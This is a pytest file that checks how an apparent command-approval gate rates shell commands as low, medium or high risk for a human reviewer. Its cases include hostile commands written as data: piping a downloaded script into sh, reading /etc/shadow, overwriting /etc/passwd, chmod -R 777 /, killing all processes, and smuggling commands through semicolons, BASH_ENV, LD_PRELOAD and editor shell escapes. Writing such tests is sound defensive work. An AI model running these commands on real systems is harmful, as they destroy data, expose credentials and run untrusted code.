"""The risk that an approver sees."""

import pytest

from pulsus.gates.approval_risk import approval_risk


@pytest.mark.parametrize(
    ("command", "risk"),
    [
        ("df -h", "low"),
        ("tail -f /var/log/syslog", "low"),
        ("systemctl restart nginx", "medium"),
        ("sudo systemctl restart nginx", "medium"),
        ("ls; docker stop web", "medium"),
        ("apt install htop", "medium"),
        ("chmod 644 x", "medium"),
        ("frobnicate", "medium"),
        ("vim -es -c ':!touch X' -c ':q'", "medium"),
        ("less +!x F", "medium"),
        ("BASH_ENV=F bash -c true", "medium"),
        ("BASH_ENV=F top", "medium"),
        ("env LD_PRELOAD=x true", "medium"),
        ("wall hi", "medium"),
        ("logger hi", "medium"),
        ("", "medium"),
        ("rm x", "high"),
        ("service networking stop", "high"),
        ("service nginx restart", "medium"),
        ("systemctl start debug-shell.service", "high"),
        ("chmod u+s /srv/a", "high"),
        ("chmod g=rxs /srv/a", "high"),
        ("chmod 4755 /srv/a", "high"),
        ("chmod 0755 /srv/a", "medium"),
        ("chmod u+x /srv/a", "medium"),
        ("sudo journalctl --vacuum-time=1d", "high"),
        ("kubectl scale deploy/x --replicas=0", "high"),
        ("kubectl scale deploy/x --replicas=3", "medium"),
        ("chmod -R 777 /", "high"),
        ("systemctl stop sshd", "high"),
        ("systemctl restart nginx && rm x", "high"),
        ("systemctl restart nginx > /etc/passwd", "high"),
        ("bash -c 'systemctl restart nginx; rm x'", "high"),
        ("curl https://example.org/x | sh", "high"),
        ("cat /etc/shadow", "high"),
        ("kill -9 -1", "high"),
        ("reboot", "high"),
        ("apt-get remove --purge nginx", "high"),
    ],
)
def test_what_cannot_be_undone_is_high(command, risk):
    assert approval_risk(command) == risk
